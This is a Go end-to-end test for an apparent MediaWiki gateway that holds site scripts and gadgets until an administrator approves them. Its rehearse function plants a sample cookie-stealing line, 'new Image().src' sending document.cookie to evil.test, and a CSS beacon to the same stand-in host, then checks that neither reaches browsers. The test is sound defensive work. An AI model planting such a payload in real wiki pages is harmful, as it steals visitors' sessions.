package e2e

import (
	"io"
	"net/http"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"sallyport/internal/browsertest"
	"sallyport/internal/mediawiki"
	"sallyport/internal/wiki"
)

// foundPages are the pages that a wiki has before somebody looks after them.
var foundPages = map[string]string{
	"MediaWiki:Common.js":          "window.common = 'good';",
	"MediaWiki:Common.css":         ".common { color: green; }",
	"MediaWiki:Group-sysop.js":     "window.group = 'good';",
	"MediaWiki:Gadgets-definition": "* one [ResourceLoader|default] | one.js | one.css\n* two [ResourceLoader|default] | two.js\n* pack [ResourceLoader|package] | pack.js | data.json\n* look [ResourceLoader|default|type=styles] | look.css",
	"MediaWiki:Gadget-one.js":      "window.one = 'good';",
	"MediaWiki:Gadget-one.css":     ".one { color: green; }",
	"MediaWiki:Gadget-two.js":      "window.two = 'good';",
	"MediaWiki:Gadget-pack.js":     "window.pack = require( './data.json' ).n;",
	"MediaWiki:Gadget-data.json":   `{"n":"good"}`,
	"MediaWiki:Gadget-look.css":    ".look { color: green; }",
	"MediaWiki:Gadget-one":         "One", "MediaWiki:Gadget-two": "Two", "MediaWiki:Gadget-pack": "Pack", "MediaWiki:Gadget-look": "Look",
}

// batchesAsked are batches as browsers ask for them, and others.
var batchesAsked = []string{
	"modules=startup&only=scripts&raw=1&skin=vector&lang=en", "modules=site&skin=vector&lang=en", "modules=site&only=scripts&skin=vector", "modules=site.styles&only=styles&skin=vector&lang=en",
	"modules=ext.gadget.one,two%7Csite&skin=vector&lang=en", "modules=ext.gadget.two,pack,one%7Cjquery&skin=vector&lang=en&version=zzzzz", "modules=ext.gadget.look,one&only=styles&skin=vector&lang=he",
	"modules=ext.gadget.pack&lang=en&skin=vector", "modules=ext.gadget.one&debug=1", "modules=ext.gadget.one&debug=2", "modules=ext.gadget.one&only=scripts&raw=1", "modules=ext.gadget.nothing%7Csite",
	"modules=user&user=Admin&skin=vector&lang=en", "modules=user.styles&only=styles&user=Admin", "modules=noscript&only=styles", "modules=site&skin=unknown", "modules=mediawiki.util%7Cext.gadget.one&skin=monobook",
}

// load is what a browser gets of load.php.
func (g *guarded) load(origin, query string, header ...string) (*http.Response, string) {
	g.Helper()
	req, err := http.NewRequestWithContext(g.Context(), "GET", origin+g.script+query, nil)
	if err != nil {
		g.Fatal(err)
	}
	req.Host = strings.TrimPrefix(g.front, "http://")
	req.Header.Set("Accept-Encoding", "identity")
	for i := 0; i < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	r, err := local.Do(req)
	if err != nil {
		g.Fatal(err)
	}
	defer r.Body.Close()
	body, err := io.ReadAll(r.Body)
	if err != nil {
		g.Fatal(err)
	}
	return r, string(body)
}

func TestAnEditPastTheGatewayReachesNobodyUntilItIsApproved(t *testing.T) {
	browser := browsertest.Start(t)
	for kind, open := range map[string]func(*testing.T, string) *site{"mediawiki": realWiki, "fakewiki": pretendWiki} {
		t.Run(kind, func(t *testing.T) {
			g := guard(t, func(t *testing.T, front string) *site {
				s := open(t, front)
				for title, text := range foundPages {
					s.edit("Admin", title, text)
				}
				s.addUser("Rita", password("Rita"), "sysop", "interface-admin")
				s.people("Mara")
				s.edit("Mara", toolScript, toolText("good"))
				s.edit("Mara", "User:Mara/tool.gadget", `{"module":{"pages":["/tool.js"]}}`)
				return s
			}, "[approved]\nserve = [\"site-code\", \"gadget\", \"popular\"]\npopular = 1\n")
			g.sameBytes()
			p := browser.NewPage(t)
			g.visit(p) // somebody who has what was there before
			g.rehearse()
			g.visit(p)
			g.visit(browser.NewPage(t))
			g.try(browser)
			g.review("MediaWiki:Gadget-one.js")
			g.asTheWiki("modules=ext.gadget.one&skin=vector&lang=en", "evil")
		})
	}
}

// sameBytes compares every batch with the wiki's own answer.
func (g *guarded) sameBytes() {
	g.Helper()
	for _, q := range batchesAsked {
		want, wantBody := g.load(g.back, "/load.php?"+q)
		got, body := g.load(g.front, "/load.php?"+q)
		if diff := cmp.Diff(wantBody, body); diff != "" {
			g.Errorf("%s: %s", q, diff)
		}
		for _, name := range []string{"Content-Type", "Cache-Control", "ETag", "Access-Control-Allow-Origin"} {
			theirs := want.Header.Get(name)
			if name == "Cache-Control" && strings.HasPrefix(q, "modules=user") { // what people wrote is kept for a minute, so that it can be switched off
				theirs = strings.ReplaceAll(theirs, "=300", "=60")
			}
			if theirs != got.Header.Get(name) {
				g.Errorf("%s: %s is %q, the wiki's %q", q, name, got.Header.Get(name), want.Header.Get(name))
			}
		}
		if again, body := g.load(g.front, "/load.php?"+q, "If-None-Match", want.Header.Get("ETag")); !strings.Contains(q, "debug=") && (again.StatusCode != http.StatusNotModified || body != "") {
			g.Errorf("%s asked again: %s", q, again.Status)
		}
	}
}

// rehearse lets scripts that everybody runs gain something hostile, inert here.
func (g *guarded) rehearse() {
	g.Helper()
	const evil = "window.taken = 'evil'; new Image().src = 'https://evil.test/?' + document.cookie;"
	g.edit("Admin", "MediaWiki:Common.js", evil)
	g.edit("Admin", "MediaWiki:Gadget-one.js", evil)
	g.edit("Admin", "MediaWiki:Group-sysop.js", evil)
	g.edit("Admin", "MediaWiki:Gadget-data.json", `{"n":"evil"}`)
	g.edit("Admin", "MediaWiki:Gadget-look.css", ".evil { background: url( https://evil.test/ ); }")
	g.edit("Admin", "MediaWiki:Gadgets-definition", foundPages["MediaWiki:Gadgets-definition"]+"\n* new [ResourceLoader|default] | one.js | data.json")
	g.eventually("the wiki itself serves it", func() bool {
		_, body := g.load(g.back, "/load.php?modules=ext.gadget.one%7Csite&skin=vector&lang=en&version="+strconv.FormatInt(time.Now().UnixNano(), 36))
		return strings.Count(body, "evil.test") == 2
	})
	for _, q := range append([]string{"modules=ext.gadget.new&lang=en&skin=vector"}, batchesAsked...) {
		if r, body := g.load(g.front, "/load.php?"+q); strings.Contains(body, "evil") || r.StatusCode != http.StatusOK {
			g.Errorf("%s: %s %s", q, r.Status, body)
		}
	}
	_, batch := g.load(g.front, "/load.php?modules=ext.gadget.one,two,pack%7Csite%7Cmediawiki.util&skin=vector&lang=en")
	for _, want := range []string{`"ext.gadget.one@kept`, `"site@kept`, `"ext.gadget.pack@kept`, `window.one=`, `window.two=`, `"n":"good"`, "window.common", `mediawiki.util@`} {
		if !strings.Contains(strings.ReplaceAll(batch, " = ", "="), want) {
			g.Errorf("a batch lacks %s: %s", want, batch)
		}
	}
	_, startup := g.load(g.front, "/load.php?modules=startup&only=scripts&raw=1&skin=vector&lang=en")
	for _, name := range []string{"ext.gadget.one", "site"} {
		row := regexp.MustCompile(`\["` + regexp.QuoteMeta(name) + `","(kept[0-9a-z]+)`).FindStringSubmatch(startup)
		if row == nil || !strings.Contains(batch, `"`+name+`@`+row[1]+`"`) {
			g.Errorf("%s is registered as %v, and served under another version", name, row)
		}
	}
	raw := g.script + "/index.php?title=MediaWiki:Common.js&action=raw&ctype=text/javascript"
	if _, body := g.load(g.front, strings.TrimPrefix(raw, g.script)); body != foundPages["MediaWiki:Common.js"] {
		g.Errorf("action=raw: %s", body)
	}
}

// visit looks at a page as a browser does: with mw.loader's own registry, cache and store.
func (g *guarded) visit(p *browsertest.Page) {
	g.Helper()
	p.Goto(g.front + g.script + "/index.php?title=Main_Page&v=" + strconv.FormatInt(time.Now().UnixNano(), 36))
	p.WaitFor("window.mw && mw.loader && [ 'site', 'ext.gadget.one', 'ext.gadget.two' ].every( ( name ) => mw.loader.getState( name ) === 'ready' )")
	got := browsertest.Eval[string](p, "[ window.common, window.one, window.two, window.taken, JSON.stringify( localStorage ).includes( 'evil' ) ].join()")
	if got != "good,good,good,,false" {
		g.Errorf("a browser has %s", got)
	}
}

// asTheWiki wants an answer to be the wiki's own, with a word in it.
func (g *guarded) asTheWiki(query, word string) {
	g.Helper()
	want, wantBody := g.load(g.back, "/load.php?"+query)
	if got, body := g.load(g.front, "/load.php?"+query); body != wantBody || !strings.Contains(body, word) || got.Header.Get("ETag") != want.Header.Get("ETag") {
		g.Errorf("%s is served as %s", query, body)
	}
}

// review lets Rita approve the current revision of a page.
func (g *guarded) review(title string) {
	g.Helper()
	client := mediawiki.New(g.back, g.script, nil, mediawiki.Options{})
	site, err := client.Site(g.Context())
	if err != nil {
		g.Fatal(err)
	}
	t, err := site.Parse(title)
	if err != nil {
		g.Fatal(err)
	}
	pages, err := client.Pages(g.Context(), []wiki.Title{t})
	if err != nil {
		g.Fatal(err)
	}
	rev := strconv.FormatInt(pages[0].Rev, 10)
	if list := g.sally("review", "list", "--config", g.file); !strings.Contains(list, "revision "+rev+" ") {
		g.Errorf("the list lacks revision %s of %s:\n%s", rev, title, list)
	}
	g.sally("review", "approve", "--config", g.file, "--as", "Rita", title, rev)
}
